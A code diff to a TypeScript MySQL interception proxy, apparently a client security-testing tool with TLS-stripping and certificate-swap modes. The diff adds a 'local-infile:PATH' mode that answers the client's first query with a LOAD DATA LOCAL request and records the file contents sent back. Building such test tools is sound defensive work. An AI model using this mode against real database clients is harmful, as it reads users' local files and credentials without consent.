@@ -8,8 +8,10 @@ import {
 import type { ConnectionOutcome, ConnectionRecord, Phase } from "../record/connection-record";
 import { newConnectionRecord } from "../record/new-connection-record";
 import { boundRecord } from "../record/retention";
-import type { ResolvedProxyOptions } from "../options/proxy-options";
+import { requestedFile, type ResolvedProxyOptions } from "../options/proxy-options";
+import { queryAsksForFile } from "../sql/load-data-local";
 import { type MysqlObservations, MysqlStreamObserver } from "./mysql-stream-observer";
+import { LocalInfileLink } from "./local-infile-link";
 import { RiddleLink } from "./riddle-link";
 import { StripLink } from "./strip-link";
 import { type SwappedCertificate, TerminatingLink } from "./terminating-link";
@@ -50,6 +52,9 @@ export class Relay {
   /** A login response read in plaintext, announced once what its auth data exposed is known. */
   private pendingResponse: HandshakeResponseFacts | null = null;
   private finished = false;
+  /** Told when the client has logged in in plaintext, and when it asked for TLS (an attack's link). */
+  private onLoggedIn: () => void = () => undefined;
+  private onTls: () => void = () => undefined;
   /** Work whose result the record waits for before it is final (the proxy's own TLS handshakes). */
   private busy: Promise<void> = Promise.resolve();
   /** `cert:SET`: the client's TLS ends at the proxy, which reads the login inside it. */
@@ -109,6 +114,8 @@ export class Relay {
       if (options.attack === "strip") this.strip(upstream);
       else if (options.attack === "riddle") this.riddle(upstream);
       else if (this.context.swapped) this.terminate(upstream, this.context.swapped);
+      else if (requestedFile(options.attack) !== null)
+        this.requestFile(upstream, requestedFile(options.attack)!);
       else {
         this.pipe(this.client, upstream, (chunk) => this.fromClient(chunk));
         this.pipe(upstream, this.client, (chunk) => this.fromServer(chunk));
@@ -181,6 +188,22 @@ export class Relay {
         this.busy = work;
       },
     }).start();
+  }
+
+  /** `local-infile:PATH`: the client's first query is answered with a LOAD DATA LOCAL request. */
+  private requestFile(upstream: Socket, path: string): void {
+    const link = new LocalInfileLink(this.client, upstream, path, {
+      fromClient: (chunk) => this.fromClient(chunk),
+      toClient: (chunk) => this.fromServer(chunk),
+      requested: (file, query) =>
+        this.recorder.localInfileRequested(file, queryAsksForFile(query, file), false),
+      data: (contents) => this.recorder.localInfileData(contents),
+      ended: () => this.recorder.localInfileEnded("complete"),
+    });
+    this.onLoggedIn = () =>
+      link.loggedIn(((this.record.clientCapabilityFlags ?? 0) & this.record.greeting.capabilityFlags) >>> 0);
+    this.onTls = () => link.encrypted();
+    link.start();
   }
 
   /** Copies `from` to `to`, showing each chunk first; a slow reader pauses the writer. */
@@ -265,6 +288,7 @@ export class Relay {
       sslRequest: (request) => {
         recorder.clientCapabilities(request.capabilityFlags);
         recorder.sslRequest();
+        this.onTls();
       },
       handshakeResponse: (response, clientPlugin) => {
         recorder.clientCapabilities(response.capabilityFlags);
@@ -292,6 +316,7 @@ export class Relay {
         recorder.authenticated(this.record.user ?? "");
         recorder.setOutcome({ kind: "authenticated", ended: null });
         recorder.phase("command");
+        this.onLoggedIn();
       },
       command: (name, query) => {
         recorder.command(name, query);
